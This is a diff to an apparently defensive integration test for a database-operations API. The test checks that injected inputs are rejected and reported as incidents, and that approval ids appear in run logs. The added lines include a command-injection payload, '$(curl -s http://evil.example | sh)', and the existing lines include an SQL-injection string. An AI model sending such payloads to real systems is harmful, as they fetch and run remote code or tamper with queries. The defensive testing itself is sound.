@@ -95,7 +95,11 @@ jobs: {{poll_interval: 50ms}}
         status, _ = call("/api/v1/db/cancel_query", "bob",
                          {"target": "prod-db", "arguments": {"pid": 4242, "backend_start": "x' OR '1'='1"}})
         assert status in (400, 403)
-        assert wait(lambda: {"repeated_denials", "potential_sql_injection"} <= kinds_reported()), kinds_reported()
+        status, _ = call("/api/v1/db/cancel_query", "mallory",
+                         {"target": "prod-db", "arguments": {"pid": 4242, "backend_start": "$(curl -s http://evil.example | sh)"}})
+        assert status in (400, 403)
+        assert wait(lambda: {"repeated_denials", "potential_sql_injection", "potential_command_injection"} <= kinds_reported()), \
+            kinds_reported()
 
         # A burst: bob's reads, well over 40 events in a minute.
         for _ in range(25):
@@ -113,6 +117,8 @@ jobs: {{poll_interval: 50ms}}
         status, body = call(f"/v1/approvals/{approval}/approve", "alice", {"approved_by": "alice", "reason": "ok"})
         assert status == 200 and body["result"] == "approved", body
         assert wait(lambda: {"outsider_vote", "fast_approval"} <= kinds_reported()), kinds_reported()
+        # The approved action's run logs name its approval.
+        assert wait(lambda: f"approval_id={approval}" in hd.log(process)), "no log line names the approval"
 
         # A reload that lets writes through where they were denied.
         (policies / "production.yaml").write_text(WIDER)
